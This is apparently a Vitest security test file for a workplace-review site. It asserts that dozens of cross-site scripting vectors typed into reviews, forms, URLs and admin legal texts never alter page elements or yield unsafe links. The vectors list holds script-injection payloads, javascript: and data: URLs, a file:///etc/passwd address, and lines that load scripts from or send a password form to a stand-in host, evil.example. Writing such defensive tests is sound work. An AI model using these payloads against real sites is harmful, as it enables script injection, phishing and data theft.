import { expect, test, vi } from 'vitest'
import { db } from '../../app/platform/db/db.server.ts'
import { cleanName } from '../../app/platform/text/clean-text.ts'
import { websiteLink } from '../../app/platform/text/links.ts'
import { siteContent } from '../../app/site/tables.ts'
import { companies } from '../../app/workplaces/companies/tables.ts'
import { companyPath } from '../../app/workplaces/company-name.ts'
import { freeTexts } from '../../app/workplaces/review-questions.ts'
import { reviews } from '../../app/workplaces/tables.ts'
import { newAdmin, newMember, visitor } from '../app.ts'
import { exampleReview, required } from '../example-review.ts'
import { isGate } from '../in-gate.ts'
import { approvedReview, pendingReview, startWithoutReviews } from '../stored-review.ts'

const scripts = ['alert(1)', 'fetch("/live")']
const tags = [
  '<script>X</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</script><script>X</script>',
  '</title><script>X</script>',
  '</textarea><script>X</script>',
  '--><script>X</script><!--',
  ']]><script>X</script>',
  '<img src=x onerror=X>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><a xlink:href="javascript:X"><text>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=X></style></mglyph></math>',
  '<body onload=X>',
  '<details open ontoggle=X>',
  '<input autofocus onfocus=X>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<iframe src="javascript:X"></iframe>',
  '<object data="javascript:X"></object>',
  '<embed src="javascript:X">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<a href="javascript:X">x</a>',
  '<a href="data:text/html,<script>X</script>">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<template><script>X</script></template>',
  '" onmouseover="X',
  "' onmouseover='X",
  '"><script>X</script>',
  "'><script>X</script>",
  '` onmouseover=X `',
  '{{constructor.constructor("X")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would type
  '${X}',
  '\\u003cscript\\u003eX\\u003c/script\\u003e',
  '&lt;script&gt;X&lt;/script&gt;',
  '&#60;script&#62;X&#60;/script&#62;',
  '\u2028X\u2029',
  '[x](javascript:X)',
  '![x](https://evil.example/pixel.gif)',
  '"]\\n");X;//',
]
const addresses = [
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  ' javascript:X',
  'data:text/html,<script>X</script>',
  'vbscript:X',
  'file:///etc/passwd',
  'https://user:secret@evil.example/',
  'javascript://example.org/%0aX',
  'https://example.org" onclick="X',
  '//evil.example',
  'example.org/"><script>X</script>',
]
const vectors = [...tags, ...addresses].flatMap((each) => scripts.map((script) => each.replaceAll('X', script)))
const typed = [...freeTexts, 'companyWebsite']

vi.hoisted(() => {
  process.env.LANGUAGES = 'fr,pt'
})

const member = await newMember()
const admin = await newAdmin()

startWithoutReviews()

test('there are more than 80 vectors', () => {
  expect(new Set(vectors).size).toBeGreaterThan(80)
})

test('whatever is typed into a review, every page has the same elements as for harmless text', {
  tags: 'thorough',
}, async () => {
  const withoutWebsite = await screens('a harmless text')
  await db().delete(reviews)
  await db().delete(companies)
  const withWebsite = await screens('a harmless text', 'https://harmless.example')
  for (const vector of vectors) {
    const harmless = websiteLink(vector) ? withWebsite : withoutWebsite
    await db().delete(reviews)
    await db().delete(companies)
    const shown = await screens(vector)
    for (const [screen, html] of shown) {
      expect([vector, screen, elementsOf(html)]).toEqual([vector, screen, elementsOf(harmless.get(screen) ?? '')])
      for (const address of addressesOf(html))
        expect([vector, screen, address]).toEqual([
          vector,
          screen,
          expect.stringMatching(/^(?:https?:\/\/[^@]*$|\/(?!\/)|#)/),
        ])
    }
  }
})

test('whatever is typed into another form or a URL, the page has the same elements as for harmless text', {
  tags: 'thorough',
}, async () => {
  const harmless = await echoes('a harmless text')
  for (const vector of vectors) {
    for (const [screen, html] of await echoes(vector)) {
      const page = harmless.get(screen) ?? ''
      // No route takes an address with a line separator, and without one nothing says which languages there are.
      const expected = html.includes(' languages"') ? page : page.replace(languages, '')
      expect([vector, screen, elementsOf(html)]).toEqual([vector, screen, elementsOf(expected)])
    }
  }
})

test('whatever an admin writes into the legal texts, no page executes it or links to an unsafe URL', async () => {
  const allowed = /^<\/?(?:p|a|ul|ol|li|h[1-6]|em|strong|code|pre|blockquote|hr|br|div)(?: [^>]*)?\/?>$/
  for (const vector of isGate ? vectors.filter((_, place) => place % 4 === 0) : vectors) {
    for (const written of [vector, `A [link](${vector}) and ![a picture](${vector})`, `[x]: ${vector}\n\n[x]`]) {
      await db().delete(siteContent)
      const texts = { terms: written, termsVersion: '0', privacy: written, privacyVersion: '0' }
      await admin.post('/admin/pages', texts)
      const html = ((await (await visitor.get('/legal-text/terms')).json()) as { html?: string }).html ?? ''
      expect(await (await visitor.get('/terms')).text()).toContain(`<div class="markdown">${html}</div>`)
      for (const tag of html.match(/<\/?[a-z!][^>]*>/gi) ?? []) {
        expect([written, tag]).toEqual([written, expect.stringMatching(allowed)])
        for (const [, name = ''] of tag.replace(/="[^"]*"/g, '=').matchAll(/ ([^ =]+)=/g))
          expect([written, tag, name]).toEqual([written, tag, expect.stringMatching(/^(?:href|class|rel)$/)])
      }
      for (const [, address = ''] of html.matchAll(/\s(?:href|src)="([^"]*)"/g))
        expect([written, address]).toEqual([written, expect.stringMatching(/^(?:https?:\/\/[^@]*$|\/(?!\/)|#)/)])
    }
  }
})

async function screens(text: string, companyWebsite = text) {
  const companyName = `A ${text}`.slice(0, 120)
  const answers = {
    ...Object.fromEntries(typed.map((field) => [field, text])),
    discussionHandling: 'Other (please specify)',
  }
  const all = { ...required, ...answers, companyWebsite, companyName, location: `${text}, ${text}` }
  await approvedReview(all)
  const { id } = await pendingReview(all)
  const page = async (path: string) => (await member.get(path)).text()
  const stored = exampleReview(all).companyName
  expect(stored).toBe(cleanName(companyName))
  return new Map([
    ['company page', await page(companyPath(stored))],
    ['directory', await page(`/reviews?search=${encodeURIComponent(companyName)}`)],
    ['directory with a choice', await page(`/reviews?compare=${encodeURIComponent(companyName)}`)],
    ['comparison', await page(`/compare?company=${encodeURIComponent(companyName)}&company=Acacia`)],
    ['admin', await (await admin.get('/admin/reviews')).text()],
    ['deletion', await (await admin.get(`/admin/reviews/${id}/deletion`)).text()],
    ['step 5', await (await member.post('/submit-review', { ...all, step: '4', to: '5', warned: 'yes' })).text()],
    ['step 1', await (await member.post('/submit-review', { ...all, step: '2', to: '1' })).text()],
  ])
}

async function echoes(text: string) {
  const said = encodeURIComponent(text)
  return new Map([
    ['auth', await (await visitor.post('/auth', { email: text, password: '' })).text()],
    ['reset', await (await visitor.post('/auth?mode=reset', { email: '' })).text()],
    ['receipt', await (await visitor.post('/review-receipt', { code: text })).text()],
    ['directory', await (await member.get(`/reviews?search=none-${said}&country=${said}&after=${said}`)).text()],
    ['unknown company', await (await member.get(`/company/none-${said}`)).text()],
    ['unknown comparison', await (await member.get(`/compare?company=none-${said}&country=${said}`)).text()],
    ['not found', await (await visitor.get(`/none-${said}`)).text()],
    ['dashboard', await (await admin.get(`/admin?tab=${said}&outcome=${said}&show=${said}`)).text()],
    ['contact', await (await visitor.post('/contact', { name: text, subject: text, message: text, email: '' })).text()],
    ['partner', await (await member.post('/work-with-us?inquiry', { name: text, reason: text, token: text })).text()],
    ['messages', await (await admin.get(`/admin/messages?of=${said}&after=${said}&outcome=${said}`)).text()],
    ['returnTo', await (await visitor.get(`/auth?returnTo=${said}&action=${said}&mode=${said}`)).text()],
    ['token', await (await visitor.get(`/auth/new-password?token=${said}`)).text()],
  ])
}

/**
 * Returns the tags and attribute names of a page, which typed text must never change. Ignores the marks that moderators
 * see around identifying text and the line that counts them, as long as they hold only text, and the offer to quote
 * the first line, which not every line gets.
 */
function elementsOf(html: string) {
  const withoutScripts = html
    .slice(html.indexOf('<body'))
    .replace(/(<script\b[^>]*>)[\s\S]*?<\/script>/g, '$1')
    .replace(/<mark class="identifying" title="Perhaps an? [\w@ -]+">[^<]*<\/mark>/g, '')
    .replace(/<li>May identify somebody: (?:\d+ (?:email|web|phone|account)? ?\w+(?:, )?)+<\/li>/g, '')
    .replace('<ul class="signals"></ul>', '')
    .replace(/<fieldset\b[^>]*>(?:(?!<\/fieldset>)[\s\S])*name="quote"[\s\S]*?<\/fieldset>/, '')
    .replace(wordsThatMayIdentify, '')
    .replace(/<p class="field-hint">Possibly identifying text is highlighted\.[^<]*<\/p>/g, '')
  const found = withoutScripts.match(/<\/?[a-z!][^>]*>/gi) ?? []
  return found.map((tag) => tag.replace(/="[^"]*"/g, '')).filter((tag) => !/^<!/.test(tag))
}

// Not every text gets this list either. It is ignored as long as it is made of these elements alone.
const wordsThatMayIdentify =
  /<p>These words may show[^<]*<\/p><dl class="check-words">(?:<\/?(?:div|dt|dd|ul|li|mark|span|button)(?: (?:class|type|name|value|title)="[^"]*")*>|<!-- -->|[^<])*<\/dl>/

const languages = /<ul class="footer-links languages".*?<\/ul>/g

function addressesOf(html: string) {
  const main = html.slice(html.indexOf('<main'), html.indexOf('</main>'))
  return [...main.matchAll(/\s(?:href|src|action)="([^"]*)"/g)].map(([, address = '']) => address)
}
